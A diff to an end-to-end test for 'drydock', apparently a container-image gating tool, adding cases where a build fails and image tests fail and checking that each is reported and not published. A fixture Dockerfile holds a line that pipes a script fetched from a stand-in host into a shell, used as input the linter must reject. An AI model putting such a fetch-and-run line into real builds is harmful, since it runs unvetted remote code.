@@ -58,7 +58,7 @@ describe('drydock start', () => {
     expect(policy.code).toBe(0);
   });
 
-  it('gates a real push: the clean definition is published with its labels, the failing one only gets a verdict', async () => {
+  it('gates a real push: the clean definition is published with its labels; failing lint, build and tests are told, not published', async () => {
     const host = daemon.info.registry;
     const created = await drydock(['repo', 'create', 'shop', '--state', state]);
     expect(created.code).toBe(0);
@@ -69,6 +69,10 @@ describe('drydock start', () => {
       'hello/image-tests.yaml':
         'schemaVersion: 2.0.0\ncommandTests:\n  - name: greets\n    command: cat\n    args: ["/greeting.txt"]\n    expectedOutput: ["hello from drydock"]\n',
       'bad/Dockerfile': `FROM ${host}/base/busybox:1.36.1\nRUN wget -qO- http://get.example.com/i.sh | sh\n`,
+      'broken/Dockerfile': `FROM ${host}/base/busybox:1.36.1\nRUN echo compiling && exit 3\nUSER 65534\n`,
+      'untested/Dockerfile': `FROM ${host}/base/busybox:1.36.1\nRUN echo v1 > /version\nUSER 65534\n`,
+      'untested/image-tests.yaml':
+        'schemaVersion: 2.0.0\nfileContentTests:\n  - name: version\n    path: /version\n    expectedContents: ["v2"]\n',
     });
 
     const image = await waitFor('the published image', async () => {
@@ -90,10 +94,10 @@ describe('drydock start', () => {
     expect(inspected.Labels['org.opencontainers.image.source']).toContain('shop');
 
     // The failing definition: a verdict with its findings, a notification, no build, nothing in the registry.
-    const push = await waitFor('both verdicts', async () => {
+    const push = await waitFor('the four verdicts', async () => {
       const { pushes } = await daemon.api.get<{ pushes: PushSummary[] }>('/api/pushes');
       const p = pushes.find((x) => x.commit === commit);
-      return p && p.verdicts.length === 2 ? p : undefined;
+      return p && p.verdicts.length === 4 ? p : undefined;
     });
     const bad = push.verdicts.find((v) => v.definition === 'bad/Dockerfile');
     expect(bad?.passed).toBe(false);
@@ -113,6 +117,31 @@ describe('drydock start', () => {
     expect(notifications).toContainEqual(
       expect.objectContaining({ kind: 'verdict-failed', definition: 'bad/Dockerfile', commit }),
     );
+
+    // A build that fails and an image whose tests fail: each told to the team, with the cause; neither published.
+    const failed = await waitFor('the failed build and the failed tests', async () => {
+      const { builds: all } = await daemon.api.get<{ builds: BuildSummary[] }>('/api/builds');
+      const done = all.filter((b) => b.commit === commit && b.state === 'failed');
+      return done.length === 2 ? done : undefined;
+    });
+    expect(failed.map((b) => b.definition).sort()).toEqual(['broken/Dockerfile', 'untested/Dockerfile']);
+    const told = (await daemon.api.get<{ notifications: NotificationSummary[] }>('/api/notifications'))
+      .notifications;
+    const buildFailed = told.find((n) => n.kind === 'build-failed' && n.definition === 'broken/Dockerfile');
+    expect(buildFailed?.summary).toContain('compiling');
+    const testsFailed = told.find((n) => n.kind === 'tests-failed' && n.definition === 'untested/Dockerfile');
+    expect(testsFailed?.summary).toMatch(/1 of 1 image tests failed[\s\S]*version/);
+    const log = await drydock([
+      'logs',
+      failed.find((b) => b.definition === 'broken/Dockerfile')!.buildId,
+      '--state',
+      state,
+    ]);
+    expect(log.stdout).toContain('exit 3');
+    const published = (await daemon.api.get<{ images: ImageSummary[] }>('/api/images')).images;
+    expect(published.filter((i) => i.commit === commit).map((i) => i.definition)).toEqual([
+      'hello/Dockerfile',
+    ]);
 
     // The CLI reads the same: status --format json carries the registry and API addresses.
     const status = await drydock(['status', '--state', state, '--format', 'json']);
